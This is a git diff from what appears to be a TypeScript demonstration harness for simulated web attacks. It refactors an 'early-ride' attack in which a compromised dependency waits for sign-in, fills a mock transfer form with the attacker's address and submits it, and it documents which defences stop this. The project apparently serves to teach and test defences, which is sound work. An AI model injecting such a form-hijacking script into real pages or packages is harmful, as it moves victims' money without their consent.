@@ -2,6 +2,17 @@
 import { stopped, succeeded, type Attack } from '../attack.ts'
 import { fruitless } from './loot.ts'
 import { told } from '../scene.ts'
+import type { Payload } from '../world/payload.ts'
+
+const script: Payload = async (kit) => {
+  while (document.querySelector('#told')?.textContent !== 'done')
+    await new Promise((resolve) => setTimeout(resolve, 50))
+  const form = document.querySelector('#transfer') as HTMLFormElement
+  const to = form.elements.namedItem('to') as HTMLInputElement
+  to.value = kit.params['to'] ?? ''
+  form.requestSubmit()
+  await new Promise((resolve) => setTimeout(resolve, 300))
+}
 
 export const earlyRide: Attack = {
   name: 'early-ride',
@@ -10,6 +21,7 @@ export const earlyRide: Attack = {
   what: 'The dependency waits until somebody is signed in, fills in the transfer form and presses “Send”.',
   why: 'To the page and to the server this is the victim at work.',
   stops: 'Nothing in this table. Confirming what matters (a password, a passkey, another device) makes it harder.',
+  script: { when: 'early', payload: script },
   control: 'session',
   succeedsOn: [
     'session',
@@ -23,18 +35,7 @@ export const earlyRide: Attack = {
     'hallpass-strict',
   ],
   async run(scene) {
-    scene.injectEarly(
-      async (kit) => {
-        while (document.querySelector('#told')?.textContent !== 'done')
-          await new Promise((resolve) => setTimeout(resolve, 50))
-        const form = document.querySelector('#transfer') as HTMLFormElement
-        const to = form.elements.namedItem('to') as HTMLInputElement
-        to.value = kit.params['to'] ?? ''
-        form.requestSubmit()
-        await new Promise((resolve) => setTimeout(resolve, 300))
-      },
-      { to: scene.attacker.email },
-    )
+    scene.injectEarly(script, { to: scene.attacker.email })
     const page = await scene.signIn()
     await told(page, /sent/).catch(() => undefined)
     const report = await scene.thief.report()
